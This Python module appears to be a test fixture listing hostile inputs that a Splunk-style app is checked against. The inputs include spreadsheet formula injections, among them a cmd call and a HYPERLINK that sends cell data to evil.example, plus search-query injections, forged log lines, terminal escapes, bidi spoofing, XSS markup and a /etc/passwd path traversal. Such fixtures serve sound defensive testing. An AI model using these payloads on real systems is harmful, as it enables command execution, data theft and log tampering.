"""Hostile texts that an attacker may put into a certificate, a URL, or the name of a rule or device."""

from __future__ import annotations

#: Texts that do harm where they are interpreted.
FORMULAS = {
    "formula": "=cmd|'/c calc'!A1",
    "formula with plus": '+HYPERLINK("http://evil.example/?"&A1)',
    "formula with minus": "-1+cmd|x",
    "formula with at": "@SUM(1+1)*cmd|x",
    "formula after a tab": "\t=1+1",
    "formula after a carriage return": "\r=1+1",
    "formula after a line feed": "\n=1+1",
    "formula in full width": "＝1+1",
    "formula in percent encoding": "%3Dcmd|x",
    "formula in the next cell": '","=1+1',
}
SEARCHES = {
    "search after a quote": 'x" | delete | search "',
    "search after a quoted quote": 'x\\" | delete | search \\"',
    "search after a backslash": "x\\",
    "subsearch": "[| makeresults | outputlookup tsid_aliases_local.csv | return $search]",
    "subsearch after a quote": '" [search index=_internal] "',
    "macro": "`tsid_events`",
    "token": "$result.session_key$ $device$ $env:user$",
    "wildcard": "*",
    "or": '" OR index="_internal',
}
CONTROLS = {
    "a second line": "x\n2026-01-01 00:00:00 ERROR all is lost",
    "a second line of CR LF": "x\r\nERROR all is lost",
    "line separator": "x\u2028ERROR",
    "terminal": "\x1b[2J\x1b]0;owned\x07x",
    "terminal in one byte": "\x9b31mx",
    "right to left": "\u202emoc.ocsic.sloot",
    "isolate": "x\u2067y\u2069",
    "no width": "to\u200bols",
    "nul": "x\x00y",
}
TEMPLATES = {
    "template": "{0.__class__.__mro__} {observed} {}",
    "percent format": "%s%n%x",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "path": "../../../../etc/passwd",
    "separator of the ledger": "a|tsid|b|tsid||tsid|tsid|c",
    "long": "x" * 100_000,
    "not UTF-8": "x\udcff\udcfe",
}
HOSTILE = {**FORMULAS, **SEARCHES, **CONTROLS, **TEMPLATES}

#: A value that the app writes must not start with these.
STARTS = tuple("=+-@\t\r\n＝＋－＠")
